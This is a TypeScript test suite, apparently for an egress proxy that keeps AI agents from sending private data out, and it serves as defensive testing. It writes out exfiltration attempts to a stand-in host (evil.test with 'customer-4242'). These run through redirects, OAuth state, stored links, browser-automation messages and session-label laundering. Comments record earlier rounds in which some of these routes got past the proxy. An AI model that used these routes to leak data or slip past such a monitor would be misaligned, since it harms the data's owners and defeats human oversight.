// Attacks on sessions and link provenance.
//
// URL spellings vs provenance (property-based): a link is "seen" exactly when the request an agent
// sends for it is the one described — every spelling that reaches the upstream as the same bytes
// (host case, a trailing dot, the default port, IDN in Unicode or punycode, userinfo, a fragment,
// dot-segments, escaped unreserved characters) matches; every change that reaches it differently
// (a query parameter or path segment added, one character changed, inserted or removed, an escape
// added to the query, the path's case) does not. Checked on the normalization itself over many
// cases, and through the real proxy for a sample. Links that move (a 3xx Location, a click-through
// URL's target, a page in a coding the scan must read) are followed as served, and only so.
//
// Label laundering: a session's labels follow its token through a second connection, a CONNECT
// tunnel opened before the labels arrived, other spellings of its credentials; a WebSocket or an
// upload opened before the session gained a label is cut before it sends more; a made-up token
// gets nothing. The agent cannot start a fresh session by itself.
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import fc from 'fast-check';
import { HttpProxyAgent } from 'http-proxy-agent';
import t from 'tap';
import { WebSocket } from 'ws';
import { normalizeLink } from '../../describe/links.ts';
import { describeRequest } from '../../describe/describe.ts';
import { cdpLoadsOf } from '../../describe/tunnel-sql.ts';
import { tempDir } from '../temp-dir.ts';
import { connectTunnel, readResponse } from '../proxy/helpers.ts';
import { contentLabels, policyCopy, run, startSessionAirlock, startWeb, studioApi, viaCurl } from '../sessions/helpers.ts';

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 200);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};

/** The URL the proxy describes (and forwards) for a request target. */
const described = (target: string): string => describeRequest({ method: 'GET', url: target, headers: [], body: Buffer.alloc(0), bodyTruncated: false }, { agent: { id: 'a', labels: {} } }).request.url;

const label = fc.stringMatching(/^[a-z][a-z0-9]{0,8}$/);
const segment = fc.stringMatching(/^[A-Za-z0-9_~-]{1,8}$/);
const served = fc.record({
  scheme: fc.constantFrom('http', 'https'),
  host: fc.array(label, { minLength: 2, maxLength: 3 }).map((l) => l.join('.')),
  port: fc.option(fc.integer({ min: 1024, max: 65535 }), { nil: undefined }),
  path: fc.array(segment, { minLength: 1, maxLength: 4 }),
  query: fc.array(fc.tuple(segment, segment), { maxLength: 3 }),
});
type Served = typeof served extends fc.Arbitrary<infer T> ? T : never;
const urlOf = (s: Served, o: { host?: string; port?: string; path?: string[]; query?: string; userinfo?: string; fragment?: string } = {}): string => {
  const q = o.query ?? s.query.map(([k, v]) => `${k}=${v}`).join('&');
  const port = o.port ?? (s.port !== undefined ? `:${s.port}` : '');
  return `${s.scheme}://${o.userinfo ?? ''}${o.host ?? s.host}${port}/${(o.path ?? s.path).join('/')}${q ? `?${q}` : ''}${o.fragment ?? ''}`;
};

t.test('spellings that reach the upstream as the same request are the same link', async (t) => {
  const same = fc.constantFrom('upper-host', 'trailing-dot', 'default-port', 'userinfo', 'fragment', 'dot-segments', 'escaped-unreserved', 'idn');
  fc.assert(fc.property(served, same, (s, how) => {
    let served = urlOf(s);
    let variant: string;
    switch (how) {
      case 'upper-host': variant = urlOf(s, { host: s.host.toUpperCase() }); break;
      case 'trailing-dot': variant = urlOf(s, { host: `${s.host}.` }); break;
      case 'default-port': variant = s.port === undefined ? urlOf(s, { port: s.scheme === 'https' ? ':443' : ':80' }) : urlOf(s); break;
      case 'userinfo': served = urlOf(s, { userinfo: 'user:pw@' }); variant = urlOf(s); break;
      case 'fragment': served = urlOf(s, { fragment: '#top' }); variant = urlOf(s, { fragment: '#other' }); break;
      case 'dot-segments': variant = urlOf(s, { path: ['.', 'x', '..', ...s.path] }); break;
      case 'escaped-unreserved': variant = urlOf(s, { path: s.path.map((p) => p.replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`)) }); break;
      default: served = urlOf(s, { host: `bücher.${s.host}` }); variant = urlOf(s, { host: `xn--bcher-kva.${s.host}` });
    }
    const key = normalizeLink(served);
    return key !== undefined && described(variant) === key;
  }), { numRuns, ...seed });
});

t.test('any change that reaches the upstream differently is another link', async (t) => {
  const change = fc.constantFrom('add-param', 'add-segment', 'change-char', 'insert-char', 'drop-char', 'escape-query', 'path-case');
  fc.assert(fc.property(served, change, fc.nat(), (s, how, n) => {
    const key = normalizeLink(urlOf(s))!;
    const target = urlOf(s);
    const pathStart = target.indexOf('/', target.indexOf('//') + 2) + 1;
    const at = pathStart + (n % (target.length - pathStart));
    const ch = target[at]!;
    let variant: string;
    switch (how) {
      case 'add-param': variant = `${target}${s.query.length ? '&' : '?'}leak=1`; break;
      case 'add-segment': variant = urlOf(s, { path: [...s.path, 'x'] }); break;
      case 'change-char': variant = target.slice(0, at) + (ch === 'z' ? 'y' : 'z') + target.slice(at + 1); break;
      case 'insert-char': variant = `${target.slice(0, at)}z${target.slice(at)}`; break;
      case 'drop-char': variant = target.slice(0, at) + target.slice(at + 1); break;
      case 'escape-query': variant = s.query.length ? target.replace(/=/, '%3D') : `${target}?`; break;
      default: variant = urlOf(s, { path: s.path.map((p) => (p === p.toUpperCase() ? p.toLowerCase() : p.toUpperCase())) });
    }
    let d: string;
    try {
      d = described(variant);
    } catch {
      return true; // not even a request the proxy would describe
    }
    // Equal only when the change is no change on the wire (e.g. dropping a lone "?" or "/" that
    // the URL standard drops too): then the upstream receives the same request.
    return d !== key || d === described(target) && variant.replace(/[?/]$/, '') === target.replace(/[?/]$/, '');
  }), { numRuns, ...seed });
});

t.test('through the real proxy: served spellings fetch, changed ones are refused', async (t) => {
  const web = await startWeb(t);
  const home = tempDir(t, 'al-att-');
  const airlock = await startSessionAirlock(t, home, policyCopy(t), web);
  const agent = await airlock.agents.add('bot');
  const proxy = airlock.proxyUrl('bot', agent.token);
  await viaCurl(proxy, 'GET', `${web.origin('news.test')}/today`); // serves http://blog.test:PORT/post?id=4
  const base = `http://blog.test:${web.port}`;
  const variants: Array<[string, number]> = [
    [`${base}/post?id=4`, 200],
    [`http://BLOG.TEST:${web.port}/post?id=4`, 200],
    [`http://blog.test.:${web.port}/post?id=4`, 200],
    [`${base}/x/../post?id=4`, 200],
    [`${base}/p%6Fst?id=4`, 200],
    [`${base}/post?id=4#frag`, 200],
    [`${base}/post?id=4&x=1`, 403],
    [`${base}/post?id=5`, 403],
    [`${base}/post/?id=4`, 403],
    [`${base}/Post?id=4`, 403],
    [`${base}/post?id%3D4`, 403],
    [`${base}/post?id=4&`, 403],
    [`${base}/post`, 403],
  ];
  for (const [url, want] of variants) {
    const r = await viaCurl(proxy, 'GET', url);
    t.equal(r.status, want, `${url} → ${want}`);
  }

  // A redirect is a link its answer served: clients follow a Location with a request of their own
  // (eleventh pass: a followed link that moved — to https, a trailing slash, another host, through
  // a search engine's click-through URL — was refused as unseen). A followed link's Location counts
  // as served by whoever served that link; any other answer's Location is judged as its body's
  // links are: an open redirect to a URL the agent wrote is no served link. In a session of its own.
  const other = await airlock.agents.add('mover');
  const moverProxy = airlock.proxyUrl('mover', other.token);
  const follow = async (url: string): Promise<{ status: number; body: string }> => {
    const { stdout } = await run('curl', ['-sS', '-L', '--max-redirs', '5', '--max-time', '20', '-x', moverProxy, '-o', '-', '-w', '\n%{http_code}', url]);
    const at = stdout.lastIndexOf('\n');
    return { status: Number(stdout.slice(at + 1)), body: stdout.slice(0, at) };
  };
  const results = web.results!;
  // Property: whatever the status, however the Location is written (absolute, relative,
  // scheme-relative), wherever it leads (the same host, another), through one or two hops (a
  // click-through URL first), the moved link is followed; the URL it moved to, with a parameter
  // added, is not.
  const shape = fc.record({
    status: fc.constantFrom(301, 302, 303, 307, 308),
    written: fc.constantFrom('absolute', 'relative', 'scheme-relative'),
    target: fc.constantFrom('blog.test', 'www.blog.test'),
    hops: fc.constantFrom(1, 2),
    path: fc.stringMatching(/^[a-z0-9]{1,8}$/),
  });
  await fc.assert(fc.asyncProperty(shape, async ({ status, written, target, hops, path }) => {
    const id = `${path}${results.length}`;
    const final = `${web.origin(target)}/${id}/?id=4`;
    const location = written === 'relative' && target === 'blog.test' ? `/${id}/?id=4` : written === 'scheme-relative' ? final.slice('http:'.length) : final;
    const first = `${web.origin('blog.test')}/${id}?s=${status}&to=${encodeURIComponent(location)}`;
    results.push(hops === 1 ? first : `${web.origin('go.test')}/l?s=${status}&to=${encodeURIComponent(first)}`);
    const served = await viaCurl(moverProxy, 'GET', `${web.origin('search.test')}/results?n=${results.length - 1}`);
    const r = await follow(results.at(-1)!);
    const changed = await viaCurl(moverProxy, 'GET', `${final}&leak=1`);
    return served.status === 200 && r.status === 200 && r.body === `ok ${target} GET /${id}/?id=4` && changed.status === 403;
  }), { numRuns: Math.min(numRuns, 5), ...seed });
  // An open redirect on a browsing source sends the agent where its own request said: no served link.
  const leak = `${web.origin('evil.test')}/c?d=customer-4242`;
  t.equal((await follow(`${web.origin('search.test')}/redirect?to=${encodeURIComponent(leak)}`)).status, 403, 'the Location the agent wrote into the query is refused');
  t.equal((await follow(`${web.origin('search.test')}/redirect?to=${encodeURIComponent(leak.toUpperCase())}`)).status, 403, 'in capitals too');
  // Fifteenth pass: a redirect to another host built from a stored target and a request field —
  // OAuth's authorize endpoint sends its errors to the redirect URI the client (an attacker's app)
  // registered, with the request's `state` — carried the agent's data in a link the request never
  // held whole; it was recorded as served by the allowed host and followed. Property over where
  // the server puts the value and what the value looks like; a redirect carrying none is followed.
  // The same link in an error page's body ("back to the application"), a value of 3 characters or more.
  // Or in its host (a tenant router: `?tenant=<data>` → `https://<data>.saas.example/`).
  await fc.assert(fc.asyncProperty(fc.constantFrom('query', 'path', 'inside', 'page', 'host'), fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._~-]{0,23}$/), async (put, raw) => {
    const data = put === 'page' ? raw.padEnd(3, 'x') : put === 'host' ? raw.toLowerCase().replace(/[^a-z0-9]/g, '') || 'a' : raw;
    const moved = await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&response_type=bogus&put=${put}&state=${encodeURIComponent(data)}`);
    const hop = web.hits.at(-1)!;
    const where = {
      query: `/cb?error=unsupported_response_type&state=${encodeURIComponent(data)}`, path: `/cb/${encodeURIComponent(data)}`,
      inside: `/cb?ctx=${encodeURIComponent(`v1.${data}.sig`)}`, page: `/cb?error=invalid_request&state=${encodeURIComponent(data)}`, host: '/login',
    }[put];
    // Refused before its name is looked up (a recorded link would pass the policy and fail to resolve: 502).
    const r = await viaCurl(moverProxy, 'GET', `${web.origin(put === 'host' ? `${data}.evil.test` : 'evil.test')}${where}`);
    return moved.status === (put === 'page' ? 200 : 302) && hop.host === 'news.test' && r.status === 403;
  }), { numRuns: Math.min(numRuns, 5), ...seed });
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&put=host&state=customer4242`)).status, 302);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('customer4242.evil.test')}/login`)).status, 403, 'a redirect to a host named by a request value is refused');
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&put=page&state=customer-4242`)).status, 200);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/cb?error=invalid_request&state=customer-4242`)).status, 403, 'the error page\'s link carrying state is refused');
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/help?topic=oauth&lang=en`)).status, 200, 'the error page\'s other link is followed');
  t.equal((await follow(`${web.origin('news.test')}/oauth/authorize?client_id=app-7&response_type=bogus&put=none&state=customer-4242`)).status, 200, 'a redirect to another host that carries no request value is followed');
  // A click-through URL's target (in its query) is served too; the agent's own URL that an echoing
  // source wraps in one is not.
  results.push(`https://duckduckgo.example/l/?uddg=${encodeURIComponent(`${web.origin('blog.test')}/direct?id=7`)}&rut=1`);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('search.test')}/results?n=${results.length - 1}`)).status, 200);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/direct?id=7`)).status, 200, 'the target of a click-through URL is followed directly');
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('search.test')}/wrap?u=${encodeURIComponent(leak)}`)).status, 200);
  t.equal((await viaCurl(moverProxy, 'GET', leak)).status, 403, 'a URL the agent wrote, wrapped by an echo, is not');
  // A client that accepts zstd (curl --compressed, urllib3 with zstandard, browsers) is offered only
  // codings the link scan reads: a CDN's zstd answer recorded no link, so no result was followable.
  const { stdout: zpage } = await run('curl', ['-sS', '--compressed', '-x', moverProxy, `${web.origin('search.test')}/zstd`]);
  t.match(zpage, /from-zstd/, 'the page reaches the agent');
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/from-zstd?id=1`)).status, 200, 'its link is followed');
  // A followed link's Location is that link's: a page no answer served has none to give.
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/unserved?to=${encodeURIComponent(leak)}`)).status, 403);
  // Twelfth pass: a host the agent may POST to (hooks.test) serves back what it stored there; a
  // link it pasted came back as a link that host served, and was followed. Such a host is no
  // browsing source.
  t.equal((await viaCurl(moverProxy, 'POST', `${web.origin('hooks.test')}/paste`, `notes: ${web.origin('evil.test')}/c?d=pasted-4242`)).status, 200);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('hooks.test')}/paste`)).status, 200);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=pasted-4242`)).status, 403, 'a link the agent stored on a host it writes to is not followed');
  // Thirteenth pass: a host given as a bare string (notes.test) takes a POST once a human approves
  // it, and a GET that stores what its query carries (a shortener's create call) without one; both
  // served the stored link back to the next GET, and it was followed.
  const api = await studioApi(airlock, home);
  const posting = viaCurl(moverProxy, 'POST', `${web.origin('notes.test')}/paste`, `notes: ${web.origin('evil.test')}/c?d=approved-4242`);
  const [held] = (await eventuallyPending(api)) as Array<{ id: string }>;
  t.equal((await api('POST', `/api/approvals/${held!.id}/approve`, {})).status, 200);
  t.equal((await posting).status, 200, 'the human approves the POST');
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=approved-4242`)).status, 403, 'a link stored by an approved POST is not followed');
  // Another agent whose session is live before the link is stored (fourteenth pass: it followed it).
  const bystander = await airlock.agents.add('bystander');
  const byProxy = airlock.proxyUrl('bystander', bystander.token);
  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
  const shortener = await airlock.agents.add('shortener');
  const shortProxy = airlock.proxyUrl('shortener', shortener.token);
  // Fourteenth pass: a GET carrying a URL of another site waits for a human (the host may fetch or
  // store it: host.fetches_url); what an approved one stored is still no followable link.
  const storing = viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=short-4242`)}`);
  const [heldGet] = (await eventuallyPending(api)) as Array<{ id: string; rule?: string }>;
  t.equal((await api('POST', `/api/approvals/${heldGet!.id}/approve`, {})).status, 200);
  t.equal((await storing).status, 200, 'the human approves the GET that carries a URL');
  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor one a GET stored');
  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor by another agent, its session live before the link was stored');
  // What one session stored is still there in the agent's next (a human's reset, the next run): its
  // first request brings the `wrote:` labels of the agent's other sessions.
  const shortSession = ((await api('GET', '/api/sessions')).body.sessions as Array<{ id: string; agent: string }>).find((x) => x.agent === 'shortener')!;
  t.equal((await api('POST', `/api/sessions/${shortSession.id}/reset`, { reason: 'next run' })).status, 200);
  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor in the agent\'s next session');
  // The host holds it once the request arrives: a store whose answer the agent does not wait for.
  const quitter = await airlock.agents.add('quitter');
  const quitProxy = airlock.proxyUrl('quitter', quitter.token);
  const quitting = run('curl', ['-sS', '--max-time', '1', '-x', quitProxy, `${web.origin('notes.test')}/paste-hang?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=quit-4242`)}`]).catch(() => undefined);
  const [heldQuit] = (await eventuallyPending(api)) as Array<{ id: string }>;
  await api('POST', `/api/approvals/${heldQuit!.id}/approve`, {});
  await quitting;
  t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
  t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('evil.test')}/c?d=quit-4242`)).status, 403, 'nor one stored by a request never answered');
  t.notOk(web.hits.some((h) => h.host === 'evil.test'), 'evil.test was never reached');
});

// A remote browser on the page a served link reached (twenty-second pass): the page's host is the
// attacker's, which browsing takes by that exact link only. A URL relative to the page (an image's
// `src`, a style's `url()`) and a Playwright context whose base URL is that link (every relative
// `goto` after it lands on its host) carried data to it, though `fetch('/c?d=' + d)` was refused.
// ws.test stands for the browser's WebSocket (a human approves each upgrade: its protocol is
// unseen); what it receives is what the browser would have been told.
t.test('twenty-second pass: a remote browser is given no URL relative to a served link\'s page, nor the link with a fragment or userinfo, as a base URL, with a referrer, a cookie or a push', async (t) => {
  const web = await startWeb(t);
  const home = tempDir(t, 'al-att-');
  const airlock = await startSessionAirlock(t, home, policyCopy(t), web);
  const agent = await airlock.agents.add('bot');
  const port = airlock.proxyAddress.port;
  const api = await studioApi(airlock, home);
  t.equal((await viaCurl(airlock.proxyUrl('bot', agent.token), 'GET', `${web.origin('news.test')}/today`)).status, 200); // serves http://blog.test:PORT/post?id=4
  const served = `http://blog.test:${web.port}/post?id=4`;
  const browser = async (msgs: string[]): Promise<number> => {
    const ws = new WebSocket(`ws://ws.test:${web.port}/devtools/browser/1`, { agent: new HttpProxyAgent(`http://bot:${agent.token}@127.0.0.1:${port}`) });
    const opened = new Promise<void>((resolve, reject) => { ws.once('open', () => resolve()); ws.once('error', reject); });
    const [held] = (await eventuallyPending(api)) as Array<{ id: string }>;
    await api('POST', `/api/approvals/${held!.id}/approve`, { accept_unseen_body: true });
    await opened;
    return new Promise<number>((resolve) => {
      let replies = 0;
      ws.on('message', () => { if (++replies === msgs.length) ws.close(1000); });
      ws.on('close', (code) => resolve(code));
      for (const m of msgs) ws.send(m);
      setTimeout(() => ws.terminate(), 10_000).unref();
    });
  };
  const cdp = (method: string, params: unknown, id = 1): string => JSON.stringify({ id, method, params });
  const pw = (guid: string, method: string, params: unknown): string => JSON.stringify({ id: 3, guid, method, params });
  // Control: the served link itself, an image of it written out, a fragment.
  t.equal(await browser([cdp('Page.navigate', { url: served }), cdp('DOM.setAttributeValue', { nodeId: 7, name: 'href', value: '#comments' }, 2)]), 1000, 'the served link is browsed');
  // Through the socket (a human approves each upgrade), one of each kind; the reader's other forms
  // are in mcp-websocket.test.ts.
  const live = [
    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: '/c?d=4111' }),
    pw('browser@11', 'newContext', { baseURL: served }),
    // The served link with a fragment of data: never sent, but the page's own code reads it.
    cdp('Page.navigate', { url: `${served}#d=4111` }),
    // A cookie of data for the served link: sent with every request to its host.
    cdp('Network.setCookie', { url: served, name: 'd', value: '4111' }),
    // Twenty-fifth pass: the served link with userinfo of data (the judged URL dropped it, as a
    // request's description does; the browser sends it as Basic credentials to the host's 401).
    cdp('Page.navigate', { url: served.replace('//', '//4111:x@') }),
  ];
  // Read alone: the same with a style, markup, a referrer of the agent's, a push to the host's worker.
  for (const msg of [
    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<img src="c?d=4111">' }),
    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'style', value: 'background: url(/c?d=4111)' }),
    cdp('Page.navigate', { url: served, referrer: 'https://docs.example/?d=4111', referrerPolicy: 'unsafeUrl' }),
    cdp('ServiceWorker.deliverPushMessage', { origin: `http://blog.test:${web.port}`, registrationId: '1', data: 'd=4111' }),
    // Userinfo over BiDi and Playwright, and a user name alone.
    JSON.stringify({ id: 2, method: 'browsingContext.navigate', params: { context: 'C1', url: served.replace('//', '//4111@') } }),
    pw('frame@1', 'goto', { url: served.replace('//', '//:4111@') }),
  ]) t.ok(cdpLoadsOf(msg).refused || cdpLoadsOf(msg).urls.some((u) => u.endsWith('/*')), `read: ${msg.slice(0, 90)}`);
  for (const msg of live) t.equal(await browser([msg]), 1008, msg.slice(0, 90));
  t.notOk(web.hits.some((h) => h.host === 'ws.test' && /d=4111|baseURL/.test(h.body)), 'the browser was told none of them');
  t.ok(web.hits.some((h) => h.host === 'ws.test' && h.body.includes('Page.navigate')), 'it was told the served link');
});

t.test('labels cannot be laundered', async (t) => {
  const web = await startWeb(t);
  const home = tempDir(t, 'al-att-');
  const airlock = await startSessionAirlock(t, home, policyCopy(t), web, { bodyCap: 1024 });
  const agent = await airlock.agents.add('bot');
  const auth = `Basic ${Buffer.from(`bot:${agent.token}`).toString('base64')}`;
  const port = airlock.proxyAddress.port;
  const api = await studioApi(airlock, home);
  const post = '{"rows":"customer table"}';

  // Before any label: a CONNECT tunnel (plain HTTP inside) to the webhook host, a WebSocket
  // (approved by a human), and an upload that streams past the capture.
  const tunnel = await connectTunnel(port, `hooks.test:${web.port}`, auth);
  const wsOpen = new Promise<WebSocket>((resolve, reject) => {
    const ws = new WebSocket(`ws://ws.test:${web.port}/chat`, { agent: new HttpProxyAgent(`http://bot:${agent.token}@127.0.0.1:${port}`) });
    ws.once('open', () => resolve(ws));
    ws.once('error', reject);
  });
  const [held] = (await eventuallyPending(api)) as Array<{ id: string }>;
  t.equal((await api('POST', `/api/approvals/${held!.id}/approve`, { accept_unseen_body: true })).status, 200, 'the upgrade is approved (its messages are unseen: said so)');
  const ws = await wsOpen;
  ws.send('hello before any label');
  const upload = http.request({ host: '127.0.0.1', port, method: 'POST', path: `http://hooks.test:${web.port}/upload`, headers: { 'proxy-authorization': auth, host: `hooks.test:${web.port}`, 'content-type': 'text/plain', 'content-length': 4096 } });
  const uploadAnswer = new Promise<number>((resolve) => {
    upload.on('response', (res) => { res.resume(); resolve(res.statusCode ?? 0); });
    upload.on('error', () => resolve(-1));
  });
  upload.write('a'.repeat(2048)); // past the 1 KiB capture: decided, and streaming
  await eventually(() => web.hits.some((h) => h.url === '/upload') || true);

  // The session gains both labels: through a second and a third connection, with the
  // credentials spelled otherwise (lower-case scheme, base64 without padding).
  const spelled = `basic ${Buffer.from(`bot:${agent.token}`).toString('base64').replace(/=+$/, '')}`;
  t.equal((await rawGet(port, `${web.origin('news.test')}/today`, spelled)).status, 200);
  t.equal((await rawGet(port, `${web.origin('db.test')}/customers/1`, auth)).status, 200);
  const sessions = (await api('GET', '/api/sessions')).body.sessions as Array<{ labels: Record<string, unknown> }>;
  t.equal(sessions.length, 1, 'every connection and spelling of the token is one session');
  t.same(contentLabels(sessions[0]!.labels), ['private', 'untrusted']);

  // The tunnel opened before: its next request is decided with the labels held now.
  tunnel.write(`POST /send HTTP/1.1\r\nHost: hooks.test:${web.port}\r\nPrefer: respond-async\r\nContent-Type: application/json\r\nContent-Length: ${post.length}\r\n\r\n${post}`);
  t.equal((await readResponse(tunnel)).status, 202, 'a POST inside a tunnel opened before the labels is held');
  tunnel.destroy();

  // The WebSocket opened before: its next message is refused and the tunnel closed.
  const closed = new Promise<number>((resolve) => ws.once('close', (code) => resolve(code)));
  ws.send('customer table');
  t.not(await closed, 1000, 'the WebSocket is closed by Airlock, not normally');
  t.notOk(web.hits.some((h) => h.host === 'ws.test' && h.body === 'customer table'), 'the message never reached the upstream');

  // The upload decided before: the rest is refused.
  upload.end('b'.repeat(2048));
  t.not(await uploadAnswer, 200, 'the upload is cut');
  t.notOk(web.hits.some((h) => h.url === '/upload' && h.body.includes('b')), 'its rest never reached the upstream');
  await airlock.audit.flush();
  const records = fs.readFileSync(airlock.audit.file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { url?: string; outcome: string });
  t.ok(records.some((r) => r.url?.endsWith('/upload') && r.outcome === 'session-labels-changed'), 'the upload is recorded as cut because the session gained labels');
  t.ok(records.some((r) => r.url?.startsWith('ws://ws.test') && r.outcome === 'session-labels-changed'), 'so is the WebSocket');

  // A made-up token is no way out; the agent's own requests stay in its session.
  const forged = `Basic ${Buffer.from('bot:not-a-token').toString('base64')}`;
  t.equal((await rawGet(port, `${web.origin('hooks.test')}/send`, forged)).status, 407, 'a made-up token is refused');
  t.equal((await viaCurl(airlock.proxyUrl('bot', agent.token), 'POST', `${web.origin('hooks.test')}/send`, post, { prefer: 'respond-async' })).status, 202);
  t.equal(web.hits.filter((h) => h.host === 'hooks.test' && h.url === '/send').length, 0, 'nothing reached the webhook');
});

async function eventually(fn: () => boolean, ms = 5000): Promise<void> {
  const until = Date.now() + ms;
  while (!fn() && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
}

async function eventuallyPending(api: Awaited<ReturnType<typeof studioApi>>): Promise<unknown[]> {
  for (let i = 0; i < 500; i++) {
    const list = ((await api('GET', '/api/approvals?status=pending')).body.approvals ?? []) as Array<{ held: boolean }>;
    if (list.some((a) => a.held)) return list.filter((a) => a.held);
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error('no held approval');
}

/** A GET through the proxy on a new connection, with the given Proxy-Authorization. */
async function rawGet(port: number, url: string, auth: string): Promise<{ status: number }> {
  const s = net.connect(port, '127.0.0.1');
  await new Promise((r) => s.once('connect', r));
  s.write(`GET ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nProxy-Authorization: ${auth}\r\nConnection: close\r\n\r\n`);
  const r = await readResponse(s);
  s.destroy();
  return r;
}
